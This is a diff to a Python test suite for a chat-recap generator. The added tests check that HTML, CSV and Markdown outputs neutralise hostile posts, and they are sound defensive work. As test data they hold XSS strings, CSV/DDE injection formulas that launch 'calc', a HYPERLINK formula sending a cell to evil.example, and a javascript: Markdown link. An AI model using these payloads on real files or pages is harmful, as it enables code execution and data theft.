@@ -85,15 +85,17 @@ def test_every_thread_post_fits_and_mentions_respect_the_caps(recap: Recap) -> N
     assert all("https://" not in p and "example.com" not in p for p in recap.posts)
 
 
-def test_shoutouts_name_each_chosen_handle_once_and_count_the_rest(recap: Recap) -> None:
-    shoutouts = recap.posts[1 + len(recap.highlights) :]
-    named = mentions_in(shoutouts)
-    assert len(named) == len(set(named)) > 0
-    highlight_mentions = len(mentions_in(recap.posts[: 1 + len(recap.highlights)]))
-    assert len(named) == 30 - highlight_mentions
-    participants = recap.stats.participants
-    assert f"and {participants - len(named)} more" in shoutouts[-1]
-    assert any("first-timers" in p for p in shoutouts)
+def test_shoutouts_name_only_people_who_answered_and_count_the_rest(recap: Recap) -> None:
+    assert len(recap.posts) == 1 + len(recap.highlights) + 1  # headline, a post a question, thanks
+    shoutout = recap.posts[-1]
+    named = [n.lstrip("@") for n in mentions_in([shoutout])]
+    assert len(named) == len(set(named)) == 5  # max_mentions_per_post
+    answered = {*handles(60), "mallory", "tricky", "bea"}  # ann only replied
+    assert set(named) <= answered
+    new = {*handles(60)[40:], "mallory", "tricky", "bea"}  # not in week 1
+    assert f"+{len(new) - len(new & set(named))} more" in shoutout
+    assert f"Thanks to all {len(answered)} of you who answered" in shoutout
+    assert "first-timers" in shoutout
 
 
 def test_hidden_users_are_named_nowhere(recap: Recap) -> None:
@@ -108,8 +110,11 @@ def test_hidden_users_are_named_nowhere(recap: Recap) -> None:
 
 def test_html_renders_hostile_text_inert(recap: Recap) -> None:
     page = recap.files.html.read_text(encoding="utf-8")
-    assert "<script" not in page and "<img src=x" not in page
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "<script>alert" not in page and "<img src=x" not in page
+    # The page's own scripts only: one with each question's posts, one that draws them.
+    assert page.count("<script") == page.count("</script>") == 3 + 1
+    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" in page  # posts, as JSON
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the highlight, as HTML
     assert "&lt;img src=x onerror=alert(1)&gt;" in page
     assert "&lt;b&gt;Mallory&lt;/b&gt;" in page
     assert 'src="data:image/png;base64,' in page
@@ -127,8 +132,9 @@ def test_csv_has_one_row_per_participant_post(recap: Recap, store: Repository) -
     }
     with recap.files.csv.open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
+    hidden = "'@hidden @hidden"  # the apostrophe keeps a spreadsheet from running it
     assert {int(r["id"]): r["text"] for r in rows} == {
-        i: t.replace("@trollbot @SecretSam", "@hidden @hidden") for i, t in expected.items()
+        i: t.replace("@trollbot @SecretSam", hidden) for i, t in expected.items()
     }
     assert len(rows) == len(expected)
     assert TRICKY in [r["text"] for r in rows]
@@ -171,3 +177,60 @@ def test_an_empty_chat_still_gets_a_recap(store: Repository, tmp_path: Path) -> 
     assert all(weighted_length(p) <= 280 for p in recap.posts)
     assert recap.files.chart.read_bytes()[:4] == b"\x89PNG"
     assert "No answers." in recap.files.html.read_text(encoding="utf-8")
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+]
+
+
+def test_csv_cells_never_start_a_formula(store: Repository, tmp_path: Path) -> None:
+    """OWASP's CSV injection advice: a leading =, +, -, @, tab, CR or LF gets an apostrophe,
+    and every cell is quoted so a separator or quote cannot start a cell of its own."""
+    w = ChatWorld(store, local_date="2026-01-13", start=WEEK2)
+    w.question(1, minute=2)
+    texts = [*FORMULAS, 'A1: fine, =1+2";=3+4', "A1: a, b; =1+2 #SMBchat", "'=quoted already"]
+    for i, text in enumerate(texts):
+        w.post(user(f"p{i}", uid=300 + i), text, minute=3)
+    w.save()
+    recap = build_recap(store, chat_spec(), question_set(), w.occurrence_id, out_dir=tmp_path)
+    with recap.files.csv.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    by_author = {row[2]: row for row in rows[1:]}
+    for i, text in enumerate(texts):
+        expected = f"'{text}" if text[0] in "=+-@\t\r\n" else text
+        assert by_author[f"p{i}"][6] == expected
+    assert all(len(row) == len(rows[0]) for row in rows)
+    assert all(not cell or cell[0] not in "=+-@\t\r\n" for row in rows for cell in row)
+    with recap.files.csv.open(encoding="utf-8", newline="") as handle:
+        records = handle.read().split("\r\n")  # a cell's own newlines are "\n" or "\r"
+    assert all(r.startswith('"') and r.endswith('"') for r in records if r)  # all quoted
+
+
+def test_markdown_keeps_links_images_and_markup_inert(store: Repository, tmp_path: Path) -> None:
+    w = ChatWorld(store, local_date="2026-01-13", start=WEEK2)
+    w.question(1, minute=2)
+    hostile = [
+        "A1: [click me](javascript:alert(1)) for our menu #SMBchat",
+        "A1: ![pixel](https://evil.example/p.png) lovely #SMBchat",
+        "A1: <img src=x onerror=alert(1)> and `code` **bold** | cell | #SMBchat",
+        "# A heading\n> a quote\n- a list #SMBchat",
+    ]
+    for i, text in enumerate(hostile):
+        w.post(user(f"m{i}", uid=400 + i), text, minute=3, likes=i)
+    w.save()
+    recap = build_recap(store, chat_spec(), question_set(), w.occurrence_id, out_dir=tmp_path)
+    markdown = recap.files.markdown.read_text(encoding="utf-8")
+    assert "](javascript:" not in markdown and "![pixel](" not in markdown
+    assert r"\[click me\]\(javascript:alert\(1\)\)" in markdown
+    assert "<img" not in markdown and "&lt;img src=x onerror=alert\\(1\\)&gt;" in markdown
+    assert r"\`code\` \*\*bold\*\* \| cell \|" in markdown
+    assert r"\# A heading &gt; a quote - a list" in markdown  # one line, no block markup
+    page = recap.files.html.read_text(encoding="utf-8")
+    assert 'href="javascript:' not in page and "<img src=x" not in page
